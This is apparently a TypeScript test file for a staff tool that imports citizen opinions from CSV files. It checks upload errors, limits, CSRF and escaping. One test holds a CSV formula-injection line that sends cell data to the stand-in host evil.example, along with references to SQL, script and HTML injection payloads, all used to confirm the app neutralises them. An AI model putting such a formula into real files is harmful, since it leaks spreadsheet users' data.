import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { UPLOAD_MAX_BYTES } from '../../server/plugins/uploads.js';
import { buildTestApp, type TestApp } from '../helpers/app.js';
import { createCampaign, signInAs } from '../helpers/factories.js';
import { csrfFrom, escaped, fieldError, HOSTILE, selectedValue } from '../helpers/forms.js';
import { htmlProblems } from '../helpers/html.js';
import { counts, csv, fileError, importFile, previewRows, upload, UTF8_BOM } from './support.js';

const PNG = Buffer.from(
  '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c63000100000500010d0a2db40000000049454e44ae426082',
  'hex',
);

describe('uploads that cannot be imported', () => {
  let t: TestApp;
  let campaignId: number;
  beforeEach(async () => {
    t = await buildTestApp();
    campaignId = await createCampaign(t.app.db, { name: 'Autumn campaign' });
  });
  afterEach(async () => t.close());

  const nothingKept = async () => {
    expect(await t.app.db.selectFrom('imports').select('id').execute()).toHaveLength(0);
    expect(await t.app.db.selectFrom('opinions').select('id').execute()).toHaveLength(0);
  };

  it('says next to the file field what is wrong with the file, keeping the campaign and channel chosen', async () => {
    const { agent } = await signInAs(t, 'supervisor');
    const cases: Array<[string, Buffer | undefined, RegExp]> = [
      ['no file', undefined, /^Choose a CSV file to upload$/],
      ['an empty file', Buffer.alloc(0), /^The file is empty$/],
      ['a BOM and blank lines', Buffer.concat([UTF8_BOM, Buffer.from('\r\n \r\n')]), /^The file is empty$/],
      ['a picture', PNG, /^This is not a CSV file/],
      [
        'bytes that are no text',
        Buffer.from([0xff, 0xfe, 0xfd, 0x81, 0x30, 0xff, 0x41, 0x0a]),
        /^This is not a CSV file/,
      ],
      ['a header and nothing else', csv(['received_at,body']), /^The file has a header row but no opinions$/],
      [
        'no text column',
        csv(['received_at,unit', '2026-11-03 14:20,Housing bureau']),
        /no column for the opinion's text/,
      ],
      ['no time column', csv(['body', 'Something.']), /no column for the time received/],
      ['no header row', csv(['2026-11-03 14:20,Something was wrong.']), /must name the columns/],
      [
        'the text twice',
        csv(['body,意见内容,received_at', 'a,b,2026-11-03 14:20']),
        /^These columns mean the same thing; keep only one of them: body, 意见内容$/,
      ],
      [
        'a quote never closed',
        csv(['received_at,body', '2026-11-03 14:20,"It never ends', '2026-11-03 14:21,Next.']),
        /^A quotation mark in the file is never closed/,
      ],
      // A runaway cell (a quote closed far too late) is stopped long before it eats the file.
      [
        'a cell of 70,000 characters',
        csv(['received_at,body', '2026-11-03 14:20,Fine.', `2026-11-03 14:21,${'x'.repeat(70_000)}`]),
        /near line 3\. Check the quotation marks there$/,
      ],
    ];
    for (const [label, data, message] of cases) {
      const res = await upload(agent, { campaignId, channel: 'petition', data, filename: 'opinions.csv' });
      expect(res.status, label).toBe(422);
      expect(fileError(res.text), label).toMatch(message);
      expect(res.text, label).toContain('<div class="error-summary"');
      expect(res.text, label).toMatch(
        /<input id="field-file" name="file" type="file"[^>]* aria-describedby="field-file-hint field-file-error" aria-invalid="true">/,
      );
      expect(selectedValue(res.text, 'campaign_id'), label).toBe(String(campaignId));
      expect(selectedValue(res.text, 'channel'), label).toBe('petition');
      expect(res.text, label).not.toMatch(/at \S+\.(ts|js):\d+/); // no stack trace
    }
    const one = await upload(agent, { campaignId, channel: 'petition', data: PNG });
    expect(await htmlProblems(one.text)).toEqual([]);
    await nothingKept();
  });

  it('refuses a file larger than the limit', async () => {
    const { agent } = await signInAs(t, 'coordinator');
    const big = Buffer.alloc(UPLOAD_MAX_BYTES + 1024, 'a');
    const res = await upload(agent, { campaignId, channel: 'hotline', data: big });
    expect(res.status).toBe(422);
    expect(fileError(res.text)).toBe('The file is larger than 10 MB. Split it into smaller files');
    await nothingKept();
  });

  it('refuses more than 20,000 rows', async () => {
    const { agent } = await signInAs(t, 'coordinator');
    const lines = ['received_at,body'];
    for (let i = 0; i < 20_001; i++) lines.push(`2026-11-03 14:20,Opinion ${i}`);
    const res = await upload(agent, { campaignId, channel: 'hotline', data: csv(lines) });
    expect(res.status).toBe(422);
    expect(fileError(res.text)).toBe(
      'The file has 20001 rows; at most 20000 can be imported at once. Split it into smaller files',
    );
    await nothingKept();
  });

  it('refuses a campaign that cannot be recorded into, and an unknown channel', async () => {
    const future = await createCampaign(t.app.db, { name: 'Next year', startsOn: '2027-01-01', endsOn: '2027-12-31' });
    const { agent } = await signInAs(t, 'coordinator');
    const data = csv(['received_at,body', '2026-11-03 14:20,Fine.']);
    for (const [campaign, channel, field, message] of [
      [String(future), 'hotline', 'campaign_id', 'Choose a campaign from the list'],
      ['99999', 'hotline', 'campaign_id', 'Choose a campaign from the list'],
      [HOSTILE.sql, 'hotline', 'campaign_id', 'Choose a campaign from the list'],
      [String(campaignId), 'fax', 'channel', 'Choose the channel the opinions came through'],
    ] as const) {
      const res = await upload(agent, { campaignId: campaign, channel, data });
      expect(res.status, `${campaign} ${channel}`).toBe(422);
      expect(fieldError(res.text, field), `${campaign} ${channel}`).toBe(message);
    }
    const page = await agent.get('/staff/imports');
    expect(page.text).not.toContain('Next year');
    await nothingKept();
  });

  it('answers a form sent without multipart encoding with the form and its errors', async () => {
    const { agent } = await signInAs(t, 'coordinator');
    const page = await agent.get('/staff/imports');
    const res = await agent
      .post('/staff/imports')
      .type('form')
      .send({ _csrf: csrfFrom(page.text), campaign_id: String(campaignId), channel: 'hotline' });
    expect(res.status).toBe(422);
    expect(fileError(res.text)).toBe('Choose a CSV file to upload');
  });

  it('refuses an upload without the CSRF token', async () => {
    const { agent } = await signInAs(t, 'coordinator');
    await agent.get('/staff/imports');
    const res = await agent
      .post('/staff/imports')
      .field('campaign_id', String(campaignId))
      .field('channel', 'hotline')
      .attach('file', csv(['received_at,body', '2026-11-03 14:20,x']), 'a.csv');
    expect(res.status).toBe(403);
    await nothingKept();
  });

  it('keeps hostile content as text and shows it escaped, never as markup or formulas', async () => {
    const { agent } = await signInAs(t, 'coordinator');
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    const data = csv([
      'external_ref,received_at,body,officer_on_duty',
      `"${HOSTILE.script.replace(/"/g, '""')}",2026-11-03 14:20,"${HOSTILE.script.replace(/"/g, '""')}",`,
      `X-2,2026-11-03 14:21,"${HOSTILE.sql}",`,
      `X-3,2026-11-03 14:22,"${formula.replace(/"/g, '""')}","${HOSTILE.html}"`,
    ]);
    const filename = `${HOSTILE.html}.csv`;
    const res = await upload(agent, { campaignId, channel: 'hotline', data, filename });
    expect(res.status).toBe(303);
    const id = Number(String(res.headers.location).split('/').pop());
    const preview = await agent.get(`/staff/imports/${id}`);
    expect(counts(preview.text)).toMatchObject({ ready: 3, invalid: 0 });
    for (const s of [HOSTILE.script, HOSTILE.html]) expect(preview.text).not.toContain(s);
    expect(preview.text).toContain(escaped(HOSTILE.script));
    expect(preview.text).toContain(escaped(HOSTILE.sql));
    expect(preview.text).toContain(escaped(formula));
    expect(await htmlProblems(preview.text)).toEqual([]);
    expect(previewRows(preview.text)).toHaveLength(3);

    const csrf = csrfFrom(preview.text);
    expect((await agent.post(`/staff/imports/${id}/commit`).type('form').send({ _csrf: csrf })).status).toBe(303);
    const rows = await t.app.db
      .selectFrom('opinions')
      .select(['body', 'external_ref', 'details'])
      .orderBy('id')
      .execute();
    expect(rows.map((r) => r.body)).toEqual([HOSTILE.script, HOSTILE.sql, formula]);
    expect(rows[0]!.external_ref).toBe(HOSTILE.script);
    expect(JSON.parse(rows[2]!.details)).toEqual({ officer_on_duty: HOSTILE.html });
    expect(await t.app.db.selectFrom('opinions').select('id').execute()).toHaveLength(3); // the table is still there

    const list = await agent.get('/staff/imports');
    expect(list.text).not.toContain(HOSTILE.html);
    expect(list.text).toContain(escaped(filename));
    const inbox = await agent.get(`/staff/opinions?campaign=${campaignId}`);
    expect(inbox.text).not.toContain(HOSTILE.script);
    expect(inbox.text).not.toContain(HOSTILE.html);
  });

  it('keeps only the name of an uploaded file, without its path or control characters', async () => {
    const { agent } = await signInAs(t, 'coordinator');
    await importFile(agent, {
      campaignId,
      channel: 'hotline',
      data: csv(['received_at,body', '2026-11-03 14:20,x']),
      filename: 'C:\\Users\\li\\Desktop\\热线\u0007记录.csv',
    });
    expect((await t.app.db.selectFrom('imports').select('filename').executeTakeFirstOrThrow()).filename).toBe(
      '热线记录.csv',
    );
  });
});
